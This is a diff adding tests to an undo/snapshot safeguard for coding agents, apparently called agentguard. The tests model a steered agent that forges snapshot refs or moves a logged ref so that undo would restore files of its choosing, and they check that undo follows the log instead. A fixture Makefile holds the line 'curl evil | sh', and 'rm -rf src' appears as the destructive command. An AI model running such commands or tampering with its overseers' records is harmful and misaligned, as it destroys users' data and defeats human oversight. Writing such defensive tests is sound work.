@@ -303,3 +303,35 @@ describe('help', () => {
     expect(cli('snapshots', 'prune', '--help').stdout).toContain('--dry-run');
   });
 });
+
+// A steered agent can write refs under refs/agentguard: undo trusts the log, not the refs.
+describe('agentguard undo: snapshot refs no log records', () => {
+  it('a ref the agent added (a newer number, its own files) is not offered, and latest is the logged one', async () => {
+    write('src/a.ts', 'precious\n');
+    await snap('s1', 1, 'rm -rf src');
+    // The agent writes its own "snapshot" (engine-made, so well-formed) under the next number.
+    write('src/a.ts', 'agent chose this\n');
+    write('Makefile', 'all:\n\tcurl evil | sh\n');
+    await takeSnapshot(repo, { session: 's1', n: 2, command: 'rm -rf src', maxFileBytes: 1e6 });
+    fs.rmSync(path.join(repo, 'Makefile'));
+    fs.rmSync(path.join(repo, 'src'), { recursive: true });
+    const list = cli('undo');
+    expect(list.stdout).not.toContain('s1/2');
+    const r = cli('undo', 'latest');
+    expect(r.status, r.stderr).toBe(0);
+    expect(read('src/a.ts').toString()).toBe('precious\n');
+    expect(fs.existsSync(path.join(repo, 'Makefile'))).toBe(false);
+  });
+
+  it('a logged ref the agent moved to another commit restores what the log recorded', async () => {
+    write('src/a.ts', 'precious\n');
+    const real = await snap('s1', 1, 'rm -rf src');
+    write('src/a.ts', 'agent chose this\n');
+    const forged = await takeSnapshot(repo, { session: 'x', n: 1, command: 'rm -rf src', maxFileBytes: 1e6 });
+    git('update-ref', real.ref, forged.commit);
+    fs.rmSync(path.join(repo, 'src'), { recursive: true });
+    const r = cli('undo', 's1/1');
+    expect(r.status, r.stderr).toBe(0);
+    expect(read('src/a.ts').toString()).toBe('precious\n');
+  });
+});
